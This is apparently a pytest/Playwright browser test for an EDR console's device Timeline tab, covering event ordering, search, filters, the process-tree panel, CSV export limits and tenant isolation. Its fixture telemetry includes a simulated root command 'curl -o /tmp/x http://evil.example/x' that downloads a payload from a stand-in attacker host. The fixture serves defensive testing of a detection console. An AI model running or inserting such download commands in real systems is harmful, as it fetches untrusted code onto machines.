"""The device page's Timeline tab in Chromium: time order, search, date range, event-type filter,
side panel with the process tree, CSV export (at most 7 days), sensor health."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from tests.web.conftest import Console, console, page, shot, sign_in  # noqa: F401

pytestmark = pytest.mark.browser


def _send_telemetry(console: Console) -> tuple[str, dt.datetime]:
    dev = console.fleet.devices["ws-01"]
    t0 = dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(hours=2)

    def ev(sec: int, **cols: Any) -> dict[str, Any]:
        return {"Timestamp": (t0 + dt.timedelta(seconds=sec)).isoformat(), **cols}

    events = [
        ev(0, Table="DeviceProcessEvents", ActionType="ProcessCreated", ProcessId=200, FileName="bash",
           ProcessCommandLine="-bash", ProcessCreationTime=t0.isoformat(), InitiatingProcessId=1, AccountName="root"),
        ev(5, Table="DeviceProcessEvents", ActionType="ProcessCreated", ProcessId=201, FileName="curl",
           ProcessCommandLine="curl -o /tmp/x http://evil.example/x", InitiatingProcessId=200, AccountName="root",
           ProcessCreationTime=(t0 + dt.timedelta(seconds=5)).isoformat()),
        ev(6, Table="DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP="93.184.216.34", RemotePort=80,
           InitiatingProcessId=201),
        ev(7, Table="DeviceFileEvents", ActionType="FileCreated", FileName="x", FolderPath="/tmp/x",
           InitiatingProcessId=201),
        ev(-4 * 86400, Table="DeviceLogonEvents", ActionType="LogonSuccess", AccountName="root",
           LogonType="RemoteInteractive", RemoteIP="10.1.2.3"),
    ]
    r = httpx.post(console.url + "/agent/v1/events", headers=dev.headers, json={"seq": 1, "events": events},
                   timeout=120)
    assert r.status_code == 200 and r.json()["status"] in ("accepted", "duplicate"), r.text
    return dev.device_id, t0


def test_device_timeline_tab(page: Any, console: Console) -> None:
    device_id, _t0 = _send_telemetry(console)
    pg = page
    sign_in(pg, console, "analyst", f"/devices/{device_id}")
    pg.get_by_role("navigation", name="Sections").get_by_role("link", name="Timeline", exact=True).click()
    expect(pg).to_have_url(re.compile(rf"/console/devices/{device_id}/timeline"))
    table = pg.get_by_test_id("device-timeline")
    rows = table.locator("tbody tr")
    expect(rows).to_have_count(5)  # 30 days by default, newest first
    expect(rows.nth(0)).to_contain_text("FileCreated /tmp/x")
    expect(rows.nth(3)).to_contain_text("created process bash")
    expect(rows.nth(4)).to_contain_text("LogonSuccess")
    expect(pg.get_by_test_id("sensor-health")).to_contain_text("Last event")
    shot(pg, "edr-01-device-timeline")
    # date range: 1 day drops the logon of 4 days ago
    pg.get_by_test_id("ranges").get_by_role("link", name="1 day").click()
    expect(rows).to_have_count(4)
    # event-type filter
    pg.get_by_label("Network").check()
    pg.get_by_role("button", name="Apply").click()
    expect(rows).to_have_count(1)
    expect(rows.nth(0)).to_contain_text("curl ConnectionSuccess 93.184.216.34:80")
    # the side panel shows the process tree, parent → child
    rows.nth(0).get_by_role("link").click()
    panel = pg.get_by_test_id("side-panel")
    tree = panel.get_by_test_id("process-tree")
    expect(tree).to_contain_text("bash")
    expect(tree.locator("li.current")).to_contain_text("curl")
    expect(tree.locator("li").first).to_contain_text("(not recorded)")  # pid 1 sent no creation
    expect(panel).to_contain_text("93.184.216.34")
    shot(pg, "edr-02-event-panel")
    # search across types (the connection matches through its process's command line)
    pg.goto(console.console(f"/devices/{device_id}/timeline?q=evil.example"))
    expect(rows).to_have_count(3)  # curl's creation, its connection and its file
    # export: the CSV has the rows of the view, at most 7 days
    pg.goto(console.console(f"/devices/{device_id}/timeline?range=7"))
    with pg.expect_download() as dl:
        pg.get_by_test_id("export").click()
    data = list(csv.DictReader(io.StringIO(Path(dl.value.path()).read_text(encoding="utf-8"))))
    assert [r["Table"] for r in data] == ["DeviceFileEvents", "DeviceNetworkEvents", "DeviceProcessEvents",
                                          "DeviceProcessEvents", "DeviceLogonEvents"]
    pg.goto(console.console(f"/devices/{device_id}/timeline?range=30"))
    expect(pg.get_by_test_id("export")).to_have_count(0)
    # custom dates
    today = dt.datetime.now(dt.UTC).date()
    pg.get_by_label("From", exact=True).fill((today - dt.timedelta(days=5)).isoformat())
    pg.get_by_label("To", exact=True).fill((today - dt.timedelta(days=3)).isoformat())
    pg.get_by_role("button", name="Apply").click()
    expect(rows).to_have_count(1)
    expect(rows.nth(0)).to_contain_text("LogonSuccess")


def test_another_tenant_cannot_open_the_timeline(console: Console) -> None:
    from tests.web.conftest import PASSWORD, fleet

    device_id, _t0 = _send_telemetry(console)
    client = httpx.Client(base_url=console.url, follow_redirects=False, timeout=30)
    token = fleet.find_csrf(client.get("/console/login").text)
    client.post("/console/login", data={"username": "otto", "password": PASSWORD, "csrf_token": token,
                                        "next": "/console/"})
    assert client.get(f"/console/devices/{device_id}/timeline").status_code == 404
    assert client.get(f"/console/devices/{device_id}/timeline.csv").status_code == 404
